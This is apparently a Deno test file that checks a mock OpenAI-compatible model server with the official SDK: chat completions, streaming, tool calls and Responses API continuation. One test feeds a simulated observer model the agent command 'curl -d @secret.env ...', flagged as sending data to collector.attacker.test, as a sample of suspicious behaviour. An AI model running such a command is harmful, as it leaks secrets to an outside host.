/**
 * The server as a plain OpenAI-compatible Chat Completions endpoint for the `openai` npm SDK,
 * the way an observer LLM will use it: JSON verdicts, streaming and not, with usage.
 */

import assert from "node:assert/strict";
import { fileURLToPath } from "node:url";
import OpenAI from "openai";
import { loadScenario, type Scenario } from "./scenario.ts";
import { type ModelServer, startModelServer } from "./server.ts";

const OBSERVER = fileURLToPath(
  new URL("../scenarios/observer_verdict.json", import.meta.url),
);

/** Runs `fn` with the official client pointed at a model server playing `scenario`; closes both. */
async function withSdk(
  scenario: Scenario,
  apiKey: string,
  fn: (openai: OpenAI, server: ModelServer) => Promise<void>,
): Promise<void> {
  const server = await startModelServer({ scenario });
  const client = Deno.createHttpClient({ caCerts: [await Deno.readTextFile(server.caCertPath)] });
  try {
    await fn(
      new OpenAI({ baseURL: server.url, apiKey, maxRetries: 0, fetchOptions: { client } }),
      server,
    );
  } finally {
    client.close();
    await server.close();
  }
}

Deno.test("openai SDK: chat completions with JSON answers, then streaming with usage", async () => {
  const scenario = await loadScenario(OBSERVER);
  await withSdk(scenario, "sk-test-observer", async (openai, server) => {
    const first = await openai.chat.completions.create({
      model: "observer",
      messages: [
        { role: "system", content: "You judge agent actions." },
        { role: "user", content: "The agent ran: cat notes.txt" },
      ],
      response_format: {
        type: "json_schema",
        json_schema: {
          name: "verdict",
          schema: {
            type: "object",
            properties: { verdict: { type: "string" } },
          },
        },
      },
    });
    assert.equal(first.object, "chat.completion");
    assert.equal(first.model, "gpt-4.1-mini");
    assert.deepEqual(JSON.parse(first.choices[0].message.content!), {
      verdict: "benign",
      confidence: 0.9,
      reasons: ["reads a local file"],
    });
    assert.equal(first.usage?.prompt_tokens, 800);
    assert.equal(first.usage?.completion_tokens, 40);

    const stream = await openai.chat.completions.create({
      model: "observer",
      stream: true,
      stream_options: { include_usage: true },
      messages: [{
        role: "user",
        content: "The agent ran: curl -d @secret.env ...",
      }],
    });
    let text = "";
    let usage: OpenAI.CompletionUsage | undefined | null;
    for await (const chunk of stream) {
      text += chunk.choices[0]?.delta.content ?? "";
      if (chunk.usage) usage = chunk.usage;
    }
    const verdict = JSON.parse(text);
    assert.equal(verdict.verdict, "suspicious");
    assert.deepEqual(verdict.reasons, [
      "sends data to collector.attacker.test",
    ]);
    assert.equal(usage?.total_tokens, 840);
    assert.deepEqual(server.requests.map((r) => [r.kind, r.turn]), [
      ["main", 0],
      ["main", 1],
    ]);
    assert.equal(server.requests[0].headers.authorization, "[redacted]");
  });
});

Deno.test("openai SDK: tool calls come back as parsed function calls", async () => {
  await withSdk(
    {
      name: "sdk-tools",
      sequencing: "conversation",
      source: "inline",
      turns: [
        { tool: { run: "ls -la" } },
        { text: "saw {{tool_output}}" },
      ],
    },
    "x",
    async (openai) => {
      const tools: OpenAI.ChatCompletionTool[] = [{
        type: "function",
        function: {
          name: "shell",
          parameters: {
            type: "object",
            properties: { command: { type: "string" } },
          },
        },
      }];
      const messages: OpenAI.ChatCompletionMessageParam[] = [{
        role: "user",
        content: "list",
      }];
      const r1 = await openai.chat.completions.create({
        model: "m",
        tools,
        messages,
      });
      const call = r1.choices[0].message.tool_calls![0];
      assert.equal(r1.choices[0].finish_reason, "tool_calls");
      assert.ok(call.type === "function");
      assert.equal(call.function.name, "shell");
      assert.deepEqual(JSON.parse(call.function.arguments), {
        command: "ls -la",
      });
      messages.push(r1.choices[0].message, {
        role: "tool",
        tool_call_id: call.id,
        content: "a.txt b.txt",
      });
      const r2 = await openai.chat.completions.create({
        model: "m",
        tools,
        messages,
      });
      assert.equal(r2.choices[0].message.content, "saw a.txt b.txt");
    },
  );
});

Deno.test("openai SDK: a custom tool's call, streamed and whole, as the SDK types it", async () => {
  // the official client's stream helper pieces `custom: {name, input}` deltas together
  await withSdk(
    {
      name: "sdk-custom-tool",
      sequencing: "conversation",
      source: "inline",
      turns: [{ tool: { write: "out.txt", content: "x\n" } }, { text: "done" }],
    },
    "x",
    async (openai) => {
      const tools: OpenAI.ChatCompletionTool[] = [{
        type: "custom",
        custom: {
          name: "apply_patch",
          format: { type: "grammar", grammar: { syntax: "lark", definition: "start: /.+/" } },
        },
      }];
      const messages: OpenAI.ChatCompletionMessageParam[] = [{ role: "user", content: "write" }];
      const streamed = await openai.chat.completions.stream({ model: "m", tools, messages })
        .finalChatCompletion();
      const call = streamed.choices[0].message.tool_calls![0];
      assert.equal(streamed.choices[0].finish_reason, "tool_calls");
      assert.ok(call.type === "custom");
      assert.equal(call.custom.name, "apply_patch");
      assert.equal(
        call.custom.input,
        "*** Begin Patch\n*** Add File: out.txt\n+x\n*** End Patch\n",
      );
      // the same turn again, whole: the request is the same conversation so far
      const whole = await openai.chat.completions.create({ model: "m", tools, messages });
      const again = whole.choices[0].message.tool_calls![0];
      assert.ok(again.type === "custom");
      assert.equal(again.custom.input, call.custom.input);
    },
  );
});

Deno.test("openai SDK: the Responses API, streaming and not, parses with the official client", async () => {
  await withSdk(
    {
      name: "sdk-responses",
      sequencing: "per-request",
      source: "inline",
      usage: { input: 300, output: 30, cacheRead: 100, reasoning: 5 },
      turns: [
        { thinking: "Look first.", tool: { run: "ls" } },
        { thinking: "Now answer.", text: "All done." },
      ],
    },
    "x",
    async (openai) => {
      const tools: OpenAI.Responses.Tool[] = [{
        type: "function",
        name: "exec_command",
        strict: false,
        parameters: { type: "object", properties: { cmd: { type: "string" } } },
      }];
      const r1 = await openai.responses.create({ model: "gpt-x", input: "list files", tools });
      const call = r1.output.find((o) => o.type === "function_call");
      assert.ok(call && call.type === "function_call");
      assert.equal(call.name, "exec_command");
      assert.deepEqual(JSON.parse(call.arguments), { cmd: "ls" });
      assert.equal(r1.usage?.input_tokens_details.cached_tokens, 100);

      const stream = await openai.responses.create({
        model: "gpt-x",
        input: "now answer",
        tools,
        stream: true,
      });
      const types: string[] = [];
      let text = "";
      let completed: OpenAI.Responses.Response | undefined;
      for await (const event of stream) {
        types.push(event.type);
        if (event.type === "response.output_text.delta") text += event.delta;
        if (event.type === "response.completed") completed = event.response;
      }
      assert.equal(text, "All done.");
      assert.equal(types[0], "response.created");
      assert.ok(types.includes("response.reasoning_summary_text.delta"));
      const message = completed?.output.find((o) => o.type === "message");
      assert.ok(message?.type === "message" && message.content[0].type === "output_text");
      assert.equal(message.content[0].text, "All done.");
      assert.equal(completed?.usage?.output_tokens_details.reasoning_tokens, 5);
    },
  );
});

Deno.test("openai SDK: a Responses conversation continued by previous_response_id over HTTP", async () => {
  // Codex's TypeScript CLI (0.1.x) sends only the new items after its first request: the server
  // must stand the stored response's history before them, or the script replays its first turn
  await withSdk(
    {
      name: "sdk-previous-response",
      sequencing: "conversation",
      source: "inline",
      turns: [{ tool: { run: "ls" } }, { text: "Two files." }],
    },
    "x",
    async (openai, server) => {
      const tools: OpenAI.Responses.Tool[] = [{
        type: "function",
        name: "shell",
        strict: false,
        parameters: {
          type: "object",
          properties: { command: { type: "array", items: { type: "string" } } },
        },
      }];
      const stream = await openai.responses.create({
        model: "o4-mini",
        input: "what is here?",
        tools,
        stream: true,
      });
      let first: OpenAI.Responses.Response | undefined;
      for await (const event of stream) {
        if (event.type === "response.completed") first = event.response;
      }
      const call = first?.output.find((o) => o.type === "function_call");
      assert.ok(call?.type === "function_call");
      assert.deepEqual(JSON.parse(call.arguments).command.at(-1), "ls");
      const second = await openai.responses.create({
        model: "o4-mini",
        previous_response_id: first!.id,
        input: [{ type: "function_call_output", call_id: call.call_id, output: "a\nb\n" }],
        tools,
      });
      assert.equal(second.output_text, "Two files.");
      // what the server logged is what the client sent, previous_response_id and all
      const logged = server.requests.at(-1)?.body as Record<string, unknown>;
      assert.equal(logged.previous_response_id, first!.id);
      // an id the server never stored: the API's 400, said in one line
      await assert.rejects(
        openai.responses.create({
          model: "o4-mini",
          previous_response_id: "resp_unknown",
          input: "x",
        }),
        (e: Error) =>
          e instanceof OpenAI.BadRequestError && /resp_unknown' not found/.test(e.message),
      );
      // store: false keeps nothing to continue from
      const unstored = await openai.responses.create({
        model: "o4-mini",
        input: "again",
        store: false,
      });
      await assert.rejects(
        openai.responses.create({
          model: "o4-mini",
          previous_response_id: unstored.id,
          input: "x",
        }),
        /not found/,
      );
    },
  );
});
